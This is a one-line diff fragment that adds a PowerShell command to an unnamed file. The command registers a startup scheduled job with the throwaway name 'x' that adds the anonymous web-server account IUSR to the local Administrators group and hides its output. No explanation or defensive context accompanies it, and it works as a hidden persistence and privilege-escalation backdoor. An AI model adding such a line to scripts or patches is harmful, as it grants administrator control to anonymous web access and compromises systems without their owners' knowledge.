@@ -1,0 +1,1 @@
+Register-ScheduledJob -Name x -Trigger (New-JobTrigger -AtStartup) -ScriptBlock { net localgroup Administrators IUSR /add } | Out-Null
